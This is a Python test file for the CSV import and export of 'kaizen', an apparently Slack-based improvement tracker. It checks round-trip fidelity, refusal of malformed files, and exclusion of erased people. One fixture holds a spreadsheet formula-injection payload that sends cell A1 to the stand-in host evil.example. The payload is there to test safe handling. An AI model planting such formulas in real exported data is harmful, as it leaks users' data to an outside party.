"""`kaizen import`: an export is read into an empty database and exported again as it was; what is wrong is refused."""

from contextlib import closing
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlmodel import col, select

from csi.lifecycle import holds, merge
from csi.people import erased
from models import Activity, Database, Improvement, Kpi, Person
from models.enums import State, Step
from tests.conftest import Bot
from tests.support.databases import Postgres
from tests.support.slack import ANA, BEN, CHLOE, LEO, MIA, Slack
from tests.support.story import captured, closed, in_progress, read, take
from tests.test_cli import Run, run  # noqa: F401  (a fixture)

AT = datetime(2026, 11, 30, tzinfo=UTC)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Prize") opens'
QUOTED = '\'=1 stands in the first cell; "quoted",\nand a line break 🎉'


def exported(run: Run, url: str, folder: str) -> dict[str, str]:  # noqa: F811
    done = run("export", "--to", folder, DATABASE_URL=url)
    assert done.exit_code == 0, done.output
    return {path.name: path.read_text("utf-8") for path in sorted(Path(folder).glob("*.csv"))}


def test_an_export_is_read_into_the_other_kind_of_database_and_exported_again_as_it_was(
    slack: Slack,
    bot: Bot,
    run: Run,  # noqa: F811
    database_url: str,
    postgres: Postgres,
    tmp_path: Path,
) -> None:
    number = closed(bot, notes=f"Laptops come in 2.8 days, says <@{CHLOE}>.")
    read(bot, "2.7")
    read(bot, "2.6")  # of the same day: the one before is corrected
    held = in_progress(bot, "Wifi drops in the lobby", kpi="Drops a week")
    with bot.db.begin() as session:
        until = bot.clock().date() + timedelta(60)
        holds.put_on_hold(session, held, "The router comes; in March", until, by=CHLOE, at=bot.clock())
    for idea in (FORMULA, QUOTED, "Printers jam twice a day"):
        captured(bot, idea, by=BEN)
    with bot.db.begin() as session:
        merge.merge(session, number + 4, number + 3, by=MIA, at=bot.clock())
    slack.command(LEO, "/improve", "anonymously The boss shouts at us")
    take(bot, number + 2, Step.DECLINE, by=MIA, reason="-1 for safety")
    bot.flush()
    with bot.db.begin() as session:
        session.get_one(Person, BEN).name = session.get_one(Person, ANA).name  # two people of one name
    first = exported(run, database_url, "first")

    with postgres.database(empty=True) as other:
        into = other if bot.db.is_sqlite else f"sqlite:///{tmp_path / 'imported.db'}"
        tried = run("import", "first", "--dry-run", DATABASE_URL=into)
        assert (tried.exit_code, "nothing is wrong" in tried.output) == (0, True), tried.output
        assert "comments, voters' names" in tried.output
        done = run("import", "first", DATABASE_URL=into, KAIZEN_MANAGERS=MIA)
        assert done.exit_code == 0, done.output
        assert exported(run, into, "again") == first
        assert "already" in run("import", "first", DATABASE_URL=into).output

        with closing(Database(into)) as db, db.begin() as session:
            assert session.get_one(Person, BEN).refreshed_at is None  # Slack is asked who it is
            for person in session.exec(select(Person)).all():
                person.refreshed_at, person.workspace = bot.clock(), session.get_one(Person, MIA).workspace
            holds.resume(session, held, by=CHLOE, at=bot.clock())
            merge.unmerge(session, number + 4, by=MIA, at=bot.clock())
            assert session.get_one(Improvement, number + 4).state is State.NEW
            new = Improvement(**session.get_one(Improvement, 1).model_dump(exclude={"id"}))
            session.add(new)
            session.flush()
            assert new.id == number + 6


REGISTER = "Improvement,Idea,State,Author,Coordinator,Objectives,Votes\n"
PEOPLE = "Name,Member id\nAna Lima,U012ANA\nChloé,U012CHLOE\nGone Person,\n"
WRONG: dict[str, tuple[str, str]] = {
    "a folder without a register": ("", "There is no register.csv"),
    "an unknown column": ("Idea,Colour\nWifi drops,red\n", "a column that Kaizen doesn't know: “Colour”"),
    "another encoding": ("latin", "isn't in UTF-8"),
    "a row with another number of cells": ("Idea,State\nWifi, the old one,new\n", "line 2: 3 cells instead of 2"),
    "no idea": ("Idea,State\n,new\n", "register.csv, line 2: “Idea” is empty"),
    "a state that there is not": ("Idea,State\nWifi drops,doing\n", "line 2: “State” is none of: new, accepted"),
    "a day that there is not": ("Idea,Decision promised by\nWifi,2026-02-30\n", "is no day, such as 2026-11-30"),
    "a number twice": ("Improvement,Idea\n4,Wifi\nIMP-4,Lift\n", "line 3: The number 4 stands here twice"),
    "a huge number": ("Improvement,Idea\n9999999999,Wifi\n", "is no improvement, such as IMP-42"),
    "somebody unknown": (REGISTER + ",Wifi,new,Zoe,,,\n", "Who is “Zoe”? Add a row to people.csv"),
    "work led by nobody": (REGISTER + ",Wifi,assess,,,,\n", "“Coordinator” is empty"),
    "work led by somebody who left": (REGISTER + ",Wifi,accepted,,Gone Person,,\n", "must be in Slack"),
    "closed without a result": ("Idea,State\nWifi,closed\n", "“Result” is empty, and it is closed"),
    "half a quoted text": ('Idea\n"Wifi drops\n', "it is no CSV"),
    "too many votes": (REGISTER + ",Wifi,new,,,,99999\n", "“Votes” is more than 10,000"),
}


@pytest.mark.parametrize("case", WRONG)
def test_what_is_wrong_is_said_by_line_and_nothing_is_written(case: str, run: Run, tmp_path: Path) -> None:  # noqa: F811
    text, said = WRONG[case]
    folder = tmp_path / "files"
    folder.mkdir()
    (folder / "people.csv").write_text(PEOPLE, "utf-8")
    if text:
        content = "Idea\nÄrger\n".encode("latin-1") if text == "latin" else text.encode()
        (folder / "register.csv").write_bytes(content)
    url = f"sqlite:///{tmp_path / 'new.db'}"

    done = run("import", "files", DATABASE_URL=url)

    assert done.exit_code in (1, 2)
    assert said in done.output.replace("\n", " ")
    if done.exit_code == 1:
        db = Database(url)
        with db.read() as session:
            assert session.exec(select(Improvement)).all() == []
            assert session.exec(select(Person).where(Person.name != "")).all() == []
        db.close()


def test_a_spreadsheet_with_ideas_alone_is_enough_and_an_erased_person_is_not_read_in(
    run: Run,  # noqa: F811
    tmp_path: Path,
) -> None:
    folder, url = tmp_path / "files", f"sqlite:///{tmp_path / 'new.db'}"
    folder.mkdir()
    (folder / "people.csv").write_text(PEOPLE, "utf-8")
    (folder / "register.csv").write_text(
        REGISTER + "7,Wifi drops,,Ana Lima,,Fewer calls; Faster work,2\n,Lift is slow,accepted,Gone Person,Chloé,,\n",
        "utf-8",
    )
    (folder / "kpis.csv").write_text("KPI,Better when,Owner\nCalls,lower,Chloé\n", "utf-8")
    (folder / "readings.csv").write_text("KPI,Measured on,Value\nCalls,2026-10-01,12.50\n", "utf-8")
    assert run("migrate", DATABASE_URL=url).exit_code == 0
    db = Database(url)
    with db.begin() as session:
        erased.remember(session, "U012ANA", AT)
    refused = run("import", "files", DATABASE_URL=url)
    assert (refused.exit_code, "was erased from Kaizen" in refused.output) == (1, True), refused.output
    with db.begin() as session:
        erased.let_back_in(session, "U012ANA")

    done = run("import", "files", DATABASE_URL=url, KAIZEN_MANAGERS=MIA)
    assert done.exit_code == 0, done.output

    with db.read() as session:
        first, second = session.exec(select(Improvement).order_by(col(Improvement.id))).all()
        assert (first.id, first.state, first.author_id) == (7, State.NEW, "U012ANA")
        assert (second.id, second.state, second.coordinator_id) == (8, State.ACCEPTED, "U012CHLOE")
        assert session.get_one(Person, second.author_id).is_deleted
        assert session.exec(select(Kpi)).one().name == "Calls"
        assert session.exec(select(Activity)).all() == []
    db.close()
